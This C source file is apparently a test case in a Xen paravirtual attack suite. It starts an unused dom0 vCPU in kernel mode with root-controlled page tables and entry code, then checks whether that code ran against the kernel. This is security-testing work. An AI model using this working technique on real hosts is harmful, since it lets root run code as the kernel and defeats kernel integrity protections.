// SPDX-License-Identifier: GPL-2.0-only
/*
 * A vCPU that Xen has given to dom0 and the kernel does not use: Xen starts it
 * in whatever state it is told to.
 */
#include "../frames/paging.h"

#include <xen/vcpu.h>

#include "entry.h"

/* The vCPU's last calls, by the address at which the kernel has them. */
uint64_t last_calls;

void vcpu_entry(void);

__asm__(".pushsection .text\n"
        ".globl vcpu_entry\n"
        "vcpu_entry:\n"
        "    call write_entry_mark\n"
        "    mov last_calls(%rip), %rdi\n"
        "    mov $2, %esi\n"
        "    mov $13, %eax\n" /* __HYPERVISOR_multicall */
        "    syscall\n"
        "0:  jmp 0b\n"
        ".popsection\n");

/*
 * Off our page tables, which go with this process, onto the kernel's; and stop.
 * Neither must return to code that is no longer there.
 */
static void prepare_last_calls(uint8_t *page, unsigned int vcpu)
{
    multicall_entry_t *calls = (multicall_entry_t *)page;
    struct mmuext_op *op = (struct mmuext_op *)(calls + 2);
    const uint64_t alias = kernel_alias(page);

    op->cmd = MMUEXT_NEW_BASEPTR;
    op->arg1.mfn = frame_of_page(kernel_root());
    calls[0].op = __HYPERVISOR_mmuext_op;
    calls[0].args[0] = alias + (uint64_t)((uint8_t *)op - page);
    calls[0].args[1] = 1;
    calls[0].args[3] = DOMID_SELF;
    calls[1].op = __HYPERVISOR_vcpu_op;
    calls[1].args[0] = VCPUOP_down;
    calls[1].args[1] = vcpu;
    last_calls = alias;
}

/* In kernel mode, on our page tables, which have the kernel's memory as well. */
static void start(unsigned int vcpu, uint64_t stack)
{
    vcpu_guest_context_t *context = buffer(sizeof(*context));
    const uint64_t code = (uintptr_t)vcpu_entry;

    context->flags = VGCF_in_kernel;
    context->user_regs.rip = code;
    context->user_regs.cs = FLAT_KERNEL_CS;
    context->user_regs.rsp = stack;
    context->user_regs.ss = FLAT_KERNEL_SS;
    context->kernel_sp = stack;
    context->kernel_ss = FLAT_KERNEL_SS;
    context->ctrlreg[3] = frame_of_page(own_root()) * PAGE_SIZE;
    context->event_callback_eip = code;
    context->failsafe_callback_eip = code;
    context->syscall_callback_eip = code;

    vcpu_op(VCPUOP_initialise, vcpu, context);
    vcpu_op(VCPUOP_up, vcpu, 0);
}

/*
 * U-STACK-INIT: start a vCPU of dom0's in kernel mode, with code of root's.
 *
 * The kernel need not have as many CPUs as dom0 has vCPUs. To Xen the others
 * are its business as well, and Xen takes their registers and page tables from
 * whoever starts them first.
 */
PV_ATTACK("U-STACK-INIT", "start an unused vCPU of dom0's in kernel mode",
          "a PVH kernel is told of all its vCPUs")
{
    const unsigned int unused = (unsigned int)sysconf(_SC_NPROCESSORS_CONF);
    uint8_t *page = buffer(PAGE_SIZE);

    if ( vcpu_op(VCPUOP_is_up, unused, 0) == -ENOENT )
        return not_applicable("the kernel uses all vCPUs of this dom0");
    if ( !kernel_alias(page) || !own_root() || !victim() )
        return cannot_try("no address for our page or the victim, or no root");

    prepare_entry();
    prepare_last_calls(page, unused);
    start(unused, kernel_alias(page) + PAGE_SIZE);
    /* Its page tables are ours, which must not go before it is down. */
    while ( vcpu_op(VCPUOP_is_up, unused, 0) == 1 )
        rest(10);

    return effect_either(victim_has_mark(), "code of ours",
                         "ran on a vCPU of its own", "did not run");
}
